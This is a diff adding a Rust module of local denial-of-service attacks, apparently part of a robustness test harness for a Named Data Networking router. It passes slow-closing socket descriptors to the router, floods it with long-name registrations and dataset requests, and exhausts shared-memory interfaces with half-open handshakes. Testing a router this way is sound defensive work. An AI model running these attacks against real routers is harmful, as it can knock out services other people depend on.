@@ -1,0 +1,197 @@
+//! Attacks by another user of the machine.
+
+use std::collections::BTreeMap;
+use std::io::{self, IoSlice, Read, Write};
+use std::mem::MaybeUninit;
+use std::net::{Ipv4Addr, TcpListener, TcpStream};
+use std::os::fd::AsFd;
+use std::os::unix::net::UnixStream;
+use std::path::Path;
+use std::time::Duration;
+
+use namely_memif::{Handshake, Interface, Options, Progress};
+use namely_security::{Signer, sign_interest};
+use namely_wire::InterestBuilder;
+use namely_wire::mgmt::{Command, ControlParameters, Dataset, Scope};
+use rustix::event::{PollFd, PollFlags, Timespec};
+use rustix::net::{
+    AddressFamily, SendAncillaryBuffer, SendAncillaryMessage, SendFlags, SocketAddrUnix, SocketFlags,
+    SocketType,
+};
+
+use super::{Done, End, name, nonce};
+use crate::attacks::Place;
+
+/// Somebody who is neither root nor whose router it is, where this process may become another.
+const NOBODY: u32 = 65_534;
+
+/// How long a socket's close(2) waits for a peer that does not read.
+const LINGER: Duration = Duration::from_secs(5);
+
+/// Messages with descriptors.
+const MESSAGES: u64 = 20;
+
+/// Registrations.
+const REGISTRATIONS: u64 = 100_000;
+
+/// Octets of a registered name, about.
+const NAME_OCTETS: usize = 4000;
+
+/// Shared-memory interfaces.
+const INTERFACES: u64 = 64;
+
+/// Of an interface: slots in each direction (log2), octets of a slot.
+const RING: (u8, u32) = (11, 9472);
+
+/// From now on this thread is somebody else, if it may be.
+fn become_somebody_else() -> bool {
+    let uid = rustix::process::Uid::from_raw(NOBODY);
+    rustix::process::geteuid().is_root() && rustix::thread::set_thread_uid(uid).is_ok()
+}
+
+/// Sockets whose close(2) waits, sent to the router, which has to close them.
+pub(super) fn descriptors(place: &Place, end: &End) -> io::Result<Done> {
+    let is_other_user = become_somebody_else();
+    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0))?;
+    let mut kept = Vec::new();
+    let sent = end.spread(MESSAGES, 0.75, |_| {
+        let connection = UnixStream::connect(&place.unix)?;
+        let slow = slow_to_close(&listener, &mut kept)?;
+        let mut space = [MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(1))];
+        let mut ancillary = SendAncillaryBuffer::new(&mut space);
+        let descriptors = [slow.as_fd()];
+        ancillary.push(SendAncillaryMessage::ScmRights(&descriptors));
+        // The first octets of a packet, so that it is read and the connection stays.
+        let octets = [IoSlice::new(&[0x05, 0x20])];
+        rustix::net::sendmsg(&connection, &octets, &mut ancillary, SendFlags::NOSIGNAL)?;
+        kept.push(Kept::Unix(connection));
+        Ok(())
+    });
+    end.wait();
+    Ok(BTreeMap::from([("descriptors", sent), ("as_other_user", u64::from(is_other_user))]))
+}
+
+/// What stays open until the attack ends.
+#[expect(dead_code, reason = "it is held, not read")]
+enum Kept {
+    Unix(UnixStream),
+    Tcp(TcpStream),
+}
+
+/// A socket with octets that its peer, which stays, does not read.
+fn slow_to_close(listener: &TcpListener, kept: &mut Vec<Kept>) -> io::Result<TcpStream> {
+    let mut near = TcpStream::connect(listener.local_addr()?)?;
+    let (far, _) = listener.accept()?;
+    kept.push(Kept::Tcp(far));
+    near.set_nonblocking(true)?;
+    let chunk = [0; 65_536];
+    while near.write(&chunk).is_ok() {}
+    // A socket that does not wait is closed without waiting.
+    near.set_nonblocking(false)?;
+    socket2::SockRef::from(&near).set_linger(Some(LINGER))?;
+    Ok(near)
+}
+
+/// Registrations of long names and requests for the largest dataset, without waiting for answers.
+pub(super) fn commands(place: &Place, end: &End) -> io::Result<Done> {
+    let is_other_user = become_somebody_else();
+    let signer = Signer::digest_sha256();
+    let mut connection = UnixStream::connect(&place.unix)?;
+    connection.set_nonblocking(true)?;
+    let long = "x".repeat(NAME_OCTETS);
+    let mut time_ms = namely_host::clock::unix_ms();
+    let mut answers = vec![0; 1 << 20];
+    let mut taken = 0u64;
+    let sent = end.spread(REGISTRATIONS, 0.95, |n| {
+        let prefix = name(&format!("/flood/{n}/{long}"))?;
+        let parameters = ControlParameters { name: Some(prefix), ..ControlParameters::default() };
+        let name = Command::RibRegister.name(Scope::Localhost, &parameters);
+        let builder = InterestBuilder::new(name).must_be_fresh().nonce(nonce(n));
+        time_ms += 1;
+        let command = sign_interest(&builder, b"", &signer, time_ms).map_err(io::Error::other)?;
+        send(&mut connection, &command, &mut answers, &mut taken, end)?;
+        if n % 16 == 0 {
+            let list = Dataset::RibList.prefix(Scope::Localhost);
+            let list = InterestBuilder::new(list).can_be_prefix().must_be_fresh().nonce(nonce(!n));
+            send(&mut connection, &list.build(), &mut answers, &mut taken, end)?;
+        }
+        Ok(())
+    });
+    Ok(BTreeMap::from([
+        ("registrations", sent),
+        ("answer_octets", taken),
+        ("as_other_user", u64::from(is_other_user)),
+    ]))
+}
+
+/// Sends all of `octets`, and meanwhile reads what comes.
+fn send(
+    connection: &mut UnixStream,
+    octets: &[u8],
+    answers: &mut [u8],
+    taken: &mut u64,
+    end: &End,
+) -> io::Result<()> {
+    let mut rest = octets;
+    while !rest.is_empty() && end.is_ahead() {
+        match connection.write(rest) {
+            Ok(n) => rest = &rest[n..],
+            Err(e) if e.kind() == io::ErrorKind::WouldBlock => std::thread::sleep(Duration::from_micros(200)),
+            Err(e) => return Err(e),
+        }
+        match connection.read(answers) {
+            Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
+            Ok(n) => *taken += n as u64,
+            Err(_) => {}
+        }
+    }
+    if rest.is_empty() { Ok(()) } else { Err(io::ErrorKind::TimedOut.into()) }
+}
+
+/// Interfaces of as much memory as is admitted, until no more are, and handshakes that stop after
+/// the first message.
+pub(super) fn memory(place: &Place, end: &End) -> io::Result<Done> {
+    let is_other_user = become_somebody_else();
+    let Some(path) = &place.memif else { return Ok(BTreeMap::new()) };
+    let (mut interfaces, mut halves) = (Vec::new(), Vec::new());
+    let (mut refused, mut begun) = (0u64, 0u64);
+    while end.is_ahead() && begun < INTERFACES * 20 {
+        begun += 1;
+        halves.extend(socket(path));
+        match interface(path) {
+            Ok(interface) => interfaces.push(interface),
+            Err(_) => refused += 1,
+        }
+        end.sleep(Duration::from_millis(20));
+    }
+    end.wait();
+    Ok(BTreeMap::from([
+        ("interfaces", interfaces.len() as u64),
+        ("refused", refused),
+        ("half_open", halves.len() as u64),
+        ("as_other_user", u64::from(is_other_user)),
+    ]))
+}
+
+fn socket(path: &Path) -> io::Result<std::os::fd::OwnedFd> {
+    let flags = SocketFlags::CLOEXEC | SocketFlags::NONBLOCK;
+    let socket = rustix::net::socket_with(AddressFamily::UNIX, SocketType::SEQPACKET, flags, None)?;
+    rustix::net::connect(&socket, &SocketAddrUnix::new(path)?)?;
+    Ok(socket)
+}
+
+fn interface(path: &Path) -> io::Result<Interface> {
+    let options = Options { ring_size_log2: RING.0, buffer_octets: RING.1, ..Options::default() };
+    let mut handshake = Handshake::client(socket(path)?, options);
+    loop {
+        handshake = match handshake.proceed().map_err(io::Error::other)? {
+            Progress::Connected(interface) => return Ok(*interface),
+            Progress::Waiting(handshake) => handshake,
+        };
+        let patience = Timespec { tv_sec: 1, tv_nsec: 0 };
+        let mut fds = [PollFd::new(&handshake, PollFlags::IN)];
+        if rustix::event::poll(&mut fds, Some(&patience))? == 0 {
+            return Err(io::ErrorKind::TimedOut.into());
+        }
+    }
+}
